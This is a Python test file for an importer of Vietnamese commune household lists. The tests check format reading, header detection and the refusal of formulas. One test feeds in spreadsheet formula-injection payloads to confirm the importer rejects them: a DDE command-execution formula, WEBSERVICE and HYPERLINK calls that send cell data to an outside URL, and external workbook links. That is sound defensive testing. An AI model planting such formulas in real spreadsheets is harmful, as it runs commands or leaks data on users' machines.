"""Lists as communes keep them: every format, every way to set up a header, and formulas."""

from collections.abc import Iterable, Sequence
from datetime import date
from typing import Any

import pytest
from openpyxl import Workbook

from apps.core.sheets import (
    Column,
    Layout,
    ListFile,
    SheetError,
    SheetRow,
    SheetStart,
    data_rows,
    find_layout,
    find_list,
    find_table,
    is_closing_row,
    refuse_formulas,
    stream,
)
from tests.lists import XLS, cells, csv_text, listed, macro_workbook, ods, saved, sheet_xml, told, with_sheet, xlsx

HOUSEHOLDS: Sequence[Sequence[Any]] = (
    ("DANH SÁCH HỘ GIA ĐÌNH",),
    ("STT", "Thôn", "Chủ hộ", None, "Số nhân khẩu"),
    (None, None, "Họ và tên", "Ngày sinh", "Tổng số", "Nữ"),
    (1, 2, 3, 4, 5, 6),
    (1, "Đồng Kim", "Nguyễn Văn Hùng", date(1965, 7, 5), 4, "2"),
    (2, None, "Trần Thị Quỳnh", 1970, 3, "1"),
)
MERGES = ("A1:F1", "A2:A3", "B2:B3", "C2:D2", "E2:F2", "B5:B6")
SPANS = {(0, 0): (1, 6), (1, 0): (2, 1), (1, 1): (2, 1), (1, 2): (1, 2), (1, 4): (1, 2), (4, 1): (2, 1)}
COLUMNS = (
    Column("village", "Thôn", ("thon", "ten thon", "thon ban"), required=True),
    Column("head", "Chủ hộ", ("chu ho", "ho va ten", "ho ten", "ho va ten chu ho"), required=True),
    Column("birth", "Năm sinh", ("nam sinh", "ngay sinh")),
    Column("members", "Số nhân khẩu", ("so nhan khau", "nhan khau")),
    Column("poor", "Hộ nghèo", ("ho ngheo", "dien")),
)


def layout_of(*rows: Iterable[Any], merged: Iterable[tuple[int, int, int, int]] = ()) -> Layout | None:
    """Where the table stands in a sheet of these rows, without a file around it."""
    filled = [SheetRow(number, list(row)) for number, row in enumerate(rows) if any(row)]
    return find_layout(SheetStart(0, "Danh sách", list(merged)), filled, COLUMNS)


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        ("xlsx", xlsx(*HOUSEHOLDS, merges=MERGES)),
        ("xlsm", macro_workbook(*HOUSEHOLDS)),
        ("xls", XLS.read_bytes()),
        ("ods", ods(*HOUSEHOLDS, spans=SPANS)),
    ],
)
def test_workbooks_of_every_kind_say_the_same(kind: str, content: bytes) -> None:
    assert cells(content, kind) == [list(row) for row in HOUSEHOLDS]


@pytest.mark.parametrize("separator", [";", ",", "\t", "|"])
@pytest.mark.parametrize("codec", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
def test_text_with_any_separator_in_any_unicode_is_read(separator: str, codec: str) -> None:
    text = csv_text(*HOUSEHOLDS, separator=separator)
    wanted = [line.split(";") for line in csv_text(*HOUSEHOLDS).splitlines()]
    assert [[cell or "" for cell in row] for row in cells(text.encode(codec), "csv")] == [
        row[: max(at for at, cell in enumerate(row) if cell) + 1] for row in wanted
    ]


def test_text_keeps_quoted_separators_and_zeros_in_front() -> None:
    content = 'sep=,\r\nThôn,Chủ hộ,Điện thoại\r\n"Bùi, xóm 1","Trần ""B""",="0987654321"\r\n,,-\r\n'.encode()
    assert cells(content, "csv")[1:] == [["Bùi, xóm 1", 'Trần "B"', "0987654321"], [None, None, "-"]]


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        ("xlsx", xlsx(*HOUSEHOLDS, merges=MERGES)),
        ("xls", XLS.read_bytes()),
        ("ods", ods(*HOUSEHOLDS, spans=SPANS)),
        ("csv", csv_text(*HOUSEHOLDS[:5], (2, "Đồng Kim", "Trần Thị Quỳnh", 1970, 3, "1")).encode()),
    ],
)
def test_the_table_is_found_in_every_kind_of_file(kind: str, content: bytes) -> None:
    file = listed(content, kind)
    found = find_list(stream(file.content, file.kind), COLUMNS)
    layout = found.layout
    assert (layout.header_first, layout.header_last, layout.data_first) == (1, 2, 4)
    assert layout.guess == {"village": 1, "head": 2, "birth": 3, "members": 4}
    assert [(head.letter, head.heading, head.key) for head in layout.heads][2:] == [
        ("C", "Chủ hộ / Họ và tên", "chu ho ho va ten"),
        ("D", "Chủ hộ / Ngày sinh", "chu ho ngay sinh"),
        ("E", "Số nhân khẩu / Tổng số", "so nhan khau tong so"),
        ("F", "Số nhân khẩu / Nữ", "so nhan khau nu"),
    ]
    assert layout.heads[3].sample == "05/07/1965"
    assert Layout.from_json(layout.to_json()) == layout
    assert [row.cells[1] for row in found.rows] == ["Đồng Kim", "Đồng Kim"]


PLAIN = ("Thôn", "Chủ hộ", "Năm sinh", "Số nhân khẩu")
DATA = ("Bùi", "Trần B", 1970, 3)


@pytest.mark.parametrize(
    ("rows", "merged", "first", "last", "data", "guess"),
    [
        ([PLAIN, DATA], [], 0, 0, 1, [0, 1, 2, 3]),
        ([["UBND XÃ", None, "CỘNG HÒA"], [], ["DANH SÁCH"], PLAIN, DATA], [], 3, 3, 4, [0, 1, 2, 3]),
        ([["DANH SÁCH THÔN"], PLAIN, DATA], [], 1, 1, 2, [0, 1, 2, 3]),
        ([["DANH SÁCH"], PLAIN, DATA], [(0, 0, 0, 3)], 1, 1, 2, [0, 1, 2, 3]),
        ([["Đơn vị: xã", None, "Biểu 2"], PLAIN, DATA], [(0, 0, 0, 1), (0, 2, 0, 3)], 1, 1, 2, [0, 1, 2, 3]),
        ([PLAIN, ("(1)", "(2)", "(3)", "(4)=(5)+(6)"), DATA], [], 0, 0, 2, [0, 1, 2, 3]),
        ([PLAIN, ("A", "B", 1, 2), DATA], [], 0, 0, 2, [0, 1, 2, 3]),
        ([PLAIN, ("bắt buộc nhập", "(viết hoa)", "dd/mm/yyyy", None), (1, 2, 3, 4), DATA], [], 0, 0, 3, [0, 1, 2, 3]),
        (
            [("1. Thôn (*)", "Họ và tên chủ hộ (bắt buộc nhập ít nhất 2 từ)", "NGÀY\nSINH"), DATA],
            [],
            *(0, 0, 1, [0, 1, 2, None]),
        ),
        ([("Năm sinh", "Chủ hộ", "x", "Tên thôn"), DATA], [], 0, 0, 1, [3, 1, 0, None]),
        # One row of numbers is data where a number stands twice.
        ([PLAIN, (1, 1, 65, 2), DATA], [], 0, 0, 1, [0, 1, 2, 3]),
        # A remark beside the table parts no heading.
        ([PLAIN, (None, None, None, None, "x"), DATA], [], 0, 0, 1, [0, 1, 2, 3]),
        # Three rows: the head of the household has a name and a day of birth in two parts.
        (
            [
                ("TT", "Thôn", "Chủ hộ", None, None, "Nhân khẩu"),
                (None, None, "Họ và tên", "Ngày sinh", None, None),
                (None, None, None, "Nam", "Nữ", None),
                (1, "Bùi", "Trần B", 1970, None, 3),
            ],
            [(0, 0, 2, 0), (0, 1, 2, 1), (0, 2, 0, 4), (1, 2, 2, 2), (1, 3, 1, 4), (0, 5, 2, 5)],
            *(0, 2, 3, [1, 2, 3, 5]),
        ),
        # The same without merged cells, as in a .csv.
        (
            [
                ("TT", "Thôn", "Chủ hộ", None, "Nhân khẩu"),
                (None, None, "Họ và tên", "Ngày sinh"),
                (1, "Bùi", "A", 1970, 3),
            ],
            [],
            *(0, 1, 2, [1, 2, 3, 4]),
        ),
        # A part of the list has a line of its own; it is no part of the header.
        (
            [("TT", "Thôn", "Chủ hộ", "Ghi chú"), ("I", None, None, None), (1, "Bùi", "A")],
            [],
            *(0, 0, 1, [1, 2, None, None]),
        ),
        # All parts of the header are named in the lower row, but for one that reaches over both.
        (
            [("TT", "Danh sách", None, "Năm sinh"), (None, "Thôn", "Họ tên", None), (1, "Bùi", "A", 1970)],
            [(0, 1, 0, 2)],
            *(0, 1, 2, [1, 2, 3, None]),
        ),
        # Another member of the household has a name and a birth year too.
        (
            [
                ("Thôn", "Chủ hộ", None, "Vợ hoặc chồng", None),
                (None, "Họ và tên", "Năm sinh", "Họ và tên", "Năm sinh"),
                ("Bùi", "A", 1970, "B", 1971),
            ],
            [(0, 1, 0, 2), (0, 3, 0, 4)],
            *(0, 1, 2, [0, 1, 2, None]),
        ),
        ([*([["x"]] * 24), PLAIN, DATA], [], 24, 24, 25, [0, 1, 2, 3]),
    ],
)
def test_headers_as_offices_set_them_up(
    rows: Any, merged: Any, first: int, last: int, data: int, guess: list[int | None]
) -> None:
    layout = layout_of(*rows, merged=merged)
    assert layout
    assert (layout.header_first, layout.header_last, layout.data_first) == (first, last, data)
    names = ("village", "head", "birth", "members")
    assert layout.guess == {name: at for name, at in zip(names, guess, strict=True) if at is not None}


@pytest.mark.parametrize(
    "rows",
    [
        [("Thôn", "Năm sinh"), DATA],
        [("Danh sách chủ hộ các thôn",), DATA],
        [("Thôn",), ("Chủ hộ",)],
        [*([["x"]] * 25), PLAIN, DATA],
        [],
    ],
    ids=["no-head", "title", "one-under-another", "too-low", "empty"],
)
def test_what_has_no_header_is_no_table(rows: Any) -> None:
    assert layout_of(*rows) is None


def test_a_column_with_data_and_no_heading_can_be_chosen_too() -> None:
    layout = layout_of(PLAIN, (*DATA, "0987"))
    assert layout
    assert [(head.letter, head.heading, head.sample) for head in layout.heads][-1] == ("E", "", "0987")


def test_hidden_sheets_are_passed_over_and_the_first_that_fits_is_taken() -> None:
    book = Workbook()
    book.active.append(["Hướng dẫn"])
    for name, state in (("cũ", "hidden"), ("mới", "visible"), ("sau", "visible")):
        page = book.create_sheet(name)
        page.sheet_state = state
        for row in (PLAIN, (name, *DATA[1:])):
            page.append(row)
    content = saved(book)
    found = find_list(stream(content, "xlsx"), COLUMNS)
    assert (found.layout.sheet, found.layout.name) == (1, "mới")
    assert [row.cells[0] for row in found.rows] == ["mới"]
    later = list(stream(content, "xlsx", sheet=2))
    assert [item.name for item in later if isinstance(item, SheetStart)] == ["sau"]


def test_nine_hundred_empty_rows_and_a_note_below_the_data_do_no_harm() -> None:
    content = xlsx(PLAIN, DATA, *([[None, " ", ""]] * 900), ["", None, None, "Tổng", 1])
    table = find_table(ListFile("a.xlsx", "xlsx", content), COLUMNS, most=10)
    assert [row.number for row in table.rows] == [2]
    assert told(content, "xlsx")[1][-1].number == 902


def test_merged_cells_count_for_each_of_their_rows_and_no_further() -> None:
    start = SheetStart(0, "", [(1, 0, 3, 0), (5, 0, 6, 0), (2, 1, 2, 2)])
    rows = [PLAIN, ("Bùi", "A"), (None, "B"), (None, "C"), (None, "D"), ("Chung", "E"), ()]
    layout = layout_of(*rows)
    assert layout
    found = data_rows(start, layout, [SheetRow(number, list(row)) for number, row in enumerate(rows)])
    assert [row.cells[0] for row in found] == ["Bùi", "Bùi", "Bùi", None, "Chung", "Chung"]


@pytest.mark.parametrize(
    ("row", "closing"),
    [
        (("", "Tổng cộng", None, 12), True),
        (("Cộng:",), True),
        ((None, "Người lập biểu", "TM. UBND XÃ"), True),
        (("", "Song Vân, ngày 5 tháng 7 năm 2023"), True),
        (("Danh sách này có 12 hộ.",), True),
        ((12, "Nguyễn Cộng"), False),
        (("Tổng Văn A",), False),
        ((None, ""), False),
    ],
)
def test_lines_below_a_table_are_told_from_rows(row: Any, closing: bool) -> None:
    assert is_closing_row(row) is closing


FORMULA_ROWS = (("TT", *PLAIN), ("=ROW()-1", "Bùi", "Trần B", "=1970+0", 3), ("", "", "Tổng", "", "=SUM(E2:E2)"))


@pytest.mark.parametrize(
    ("kind", "content"),
    [
        ("xlsx", xlsx(*FORMULA_ROWS)),
        ("xlsm", macro_workbook(*FORMULA_ROWS)),
        ("ods", ods(*FORMULA_ROWS)),
        ("csv", csv_text(*FORMULA_ROWS).encode()),
    ],
)
def test_a_formula_in_a_column_that_is_read_is_refused_by_its_cell(kind: str, content: bytes) -> None:
    start, rows = told(content, kind)
    layout = find_layout(start, rows, COLUMNS)
    assert layout
    refuse_formulas(layout, start, [1, 2])
    with pytest.raises(SheetError, match=r"Ô D2 là công thức; chép, dán giá trị \(Paste Values\)"):
        refuse_formulas(layout, start, [1, 2, 3])
    with pytest.raises(SheetError, match="Ô E3"):
        refuse_formulas(layout, start, [1, 2, 4])
    refuse_formulas(layout, start, [1, 2, 4], rows={1})
    with pytest.raises(SheetError, match="Ô D2"):
        find_table(ListFile(f"a.{kind}", kind, content), COLUMNS, most=10)


def test_formulas_of_a_whole_column_shared_and_in_arrays_are_all_told() -> None:
    rows = "".join(
        f'<row r="{at}"><c r="B{at}"><f t="shared" si="0"/><v>1</v></c><c r="D{at}"><v>2</v></c></row>'
        for at in range(1, 3001)
    )
    array = '<row r="3002"><c r="C3002"><f t="array" ref="C3002:D3004">A1:B3*2</f><v>1</v></c></row>'
    start, _ = told(with_sheet(sheet_xml(rows + array)), "xlsx")
    assert start.formulas == {1: [(0, 2999)], 2: [(3001, 3003)], 3: [(3001, 3003)]}


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("https://example.com/?a="&A1,"x")',
        '=WEBSERVICE("https://example.com")',
        "=[1]Sheet1!A1",
        "='\\\\may-chu\\[so.xlsx]Hộ'!A1",
        "=cmd|' /C calc'!A0",
        '=RTD("x",,"y")',
    ],
)
@pytest.mark.parametrize("kind", ["xlsx", "ods", "csv"])
def test_a_formula_that_reaches_out_is_refused_wherever_it_stands(formula: str, kind: str) -> None:
    rows = (PLAIN, (*DATA, None, None, formula))
    content = {"xlsx": xlsx, "ods": ods}[kind](*rows) if kind != "csv" else csv_text(*rows, separator="\t").encode()
    with pytest.raises(SheetError, match="Ô G2 là công thức lấy dữ liệu từ tệp, chương trình hoặc địa chỉ khác"):
        told(content, kind)


@pytest.mark.parametrize("text", ["- Con (ông A)", "+84987654321", "-5", "@", "- 1.000 đ", "24-Thôn Đồng Kim"])
def test_text_that_only_begins_like_a_formula_is_none(text: str) -> None:
    start, rows = told(csv_text(PLAIN, (text, "A")).encode(), "csv")
    assert not start.formulas
    assert rows[1].cells[0] == text


def test_a_cell_of_many_letters_is_cut() -> None:
    _, rows = told(xlsx(["é" * 5000]), "xlsx")
    assert rows[0].cells == ["é" * 1000]
